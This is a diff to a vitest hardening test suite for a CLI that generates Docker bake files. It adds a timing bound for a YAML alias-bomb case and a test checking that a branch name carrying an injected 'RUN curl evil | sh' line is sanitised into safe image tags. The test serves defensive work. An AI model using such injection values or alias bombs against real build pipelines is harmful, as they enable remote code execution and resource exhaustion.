@@ -1,7 +1,7 @@
 // Hardening catalogue, "bad inputs": every row runs `bakeplan plan` through the CLI on a project
 // that was planned once, and asserts the exit code, the exact file:line:col (and key path or
 // template line) in the message, and that not one file, directory or mtime changed.
-import { symlinkSync, writeFileSync } from "node:fs";
+import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { runCli, testdir } from "../helpers.js";
@@ -22,6 +22,8 @@ interface Row {
   /** `file:line:col: key.path` prefixes that must appear, computed from the bad text. */
   at: (files: Record<string, string>) => string[];
   message: string | RegExp;
+  /** How fast the refusal must be (default 5 s: a generous bound for a loaded CI machine). */
+  maxMs?: number;
 }
 
 async function expectRow(row: Row): Promise<void> {
@@ -30,7 +32,7 @@ async function expectRow(row: Row): Promise<void> {
   const before = snapshotTree(dir);
   const t0 = performance.now();
   const res = await runCli(["plan", ...(row.args ?? [])], dir);
-  expect(performance.now() - t0, "refused quickly").toBeLessThan(5_000);
+  expect(performance.now() - t0, "refused quickly").toBeLessThan(row.maxMs ?? 5_000);
   expectRefused(res, { code: row.code ?? 1, at: row.at(row.files), message: row.message });
   expectTreeUnchanged(dir, before);
 }
@@ -72,6 +74,8 @@ const yamlRows: Row[] = [
     files: { "context.yaml": HARD_CONTEXT + BOMB },
     at: (f) => [loc(yaml(f), "*a")],
     message: /YAML: Excessive alias count .*more than 100 alias expansions/,
+    // Expanded, the bomb would be 9^9 (387 million) strings.
+    maxMs: 1_000,
   },
 ];
 
@@ -429,6 +433,16 @@ describe("hardening: matrix errors", () => {
 
 describe("hardening: image references and tags", () => {
   it.each(tagRows)("$name", expectRow);
+
+  it("refs: branch names in tags and cache refs are sanitised like docker/metadata-action (a line break cannot split a tag)", async () => {
+    const dir = await plannedProject();
+    const res = await runCli(["plan", "--branch", "..-feature/Foo Bar\nRUN curl evil | sh"], dir);
+    expect(res.code, res.stderr).toBe(0);
+    const bake = JSON.parse(readFileSync(join(dir, "docker-bake.json"), "utf8")) as { target: Record<string, { tags: string[]; "cache-from": string[] }> };
+    const t = bake.target["vllm-dev"]!;
+    expect(t.tags).toEqual(["registry.example.com/demo/app:feature-Foo-Bar-RUN-curl-evil-sh-vllm-dev"]);
+    expect(t["cache-from"]).toEqual(["type=registry,ref=registry.example.com/demo/cache:vllm-dev-feature-Foo-Bar-RUN-curl-evil-sh", "type=registry,ref=registry.example.com/demo/cache:vllm-dev-main"]);
+  });
 });
 
 describe("hardening: templates", () => {
